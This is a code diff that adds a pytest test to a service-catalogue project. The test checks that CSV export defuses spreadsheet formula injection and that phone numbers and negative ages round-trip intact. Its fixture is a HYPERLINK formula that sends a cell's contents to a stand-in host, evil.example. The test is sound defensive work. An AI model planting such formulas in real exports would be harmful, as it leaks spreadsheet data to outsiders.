@@ -2,11 +2,14 @@
 
 from __future__ import annotations
 
+import csv
+import io
 import json
 from collections.abc import Callable
 from pathlib import Path
 
 import pytest
+from sqlalchemy import select
 
 from service_catalog import exchange
 from service_catalog.db import new_session
@@ -14,7 +17,7 @@ from service_catalog.exchange import CatalogueFormatError, export_json, main, ru
 from service_catalog.importers import ptv
 from service_catalog.importers.common import SyncBrakeError
 from service_catalog.migrate import upgrade
-from service_catalog.models import Service
+from service_catalog.models import Service, ServiceLocation
 
 SAMPLE = Path(__file__).parent / "data" / "ptv_sample.json"
 
@@ -85,6 +88,34 @@ def test_csv_cells_hold_json_for_hours_and_localised_fields(full_url: str) -> No
     )
     assert '"{""fi"": ' in first
     assert "DaysOfTheWeek" in files["service_location.csv"]
+
+
+def test_a_text_cell_written_as_a_formula_is_neutralised_and_numbers_stay(
+    full_url: str, tmp_path: Path
+) -> None:
+    # A spreadsheet would run the address; the phone number and the negative age stay usable
+    # and import back as they were.
+    hostile = '=HYPERLINK("http://evil.example/?d="&A1,"Avaa")'
+    with new_session(full_url) as session, session.begin():
+        location = session.scalars(select(ServiceLocation).order_by(ServiceLocation.id)).first()
+        location.street_address, location.phone = hostile, "+358 40 123 4567"
+        service = session.get(Service, location.service_id)
+        service.min_age = -1
+        ids = location.id, service.id
+    with new_session(full_url) as session:
+        files = exchange.export_csv_files(session)
+
+    def row(table: str, key: str) -> dict[str, str]:
+        return next(r for r in csv.DictReader(io.StringIO(files[table])) if r["id"] == key)
+
+    assert row("service_location.csv", ids[0])["street_address"] == "'" + hostile
+    assert row("service_location.csv", ids[0])["phone"] == "+358 40 123 4567"
+    assert row("service.csv", ids[1])["min_age"] == "-1"
+    folder = tmp_path / "csv"
+    run_export(folder, full_url)
+    records = exchange.read_export(folder)
+    assert next(r for r in records["service"] if r["id"] == ids[1])["min_age"] == -1
+    assert next(r for r in records["service_location"] if r["id"] == ids[0])["phone"] == "+358 40 123 4567"
 
 
 def test_importing_its_own_export_changes_nothing(full_url: str, tmp_path: Path) -> None:
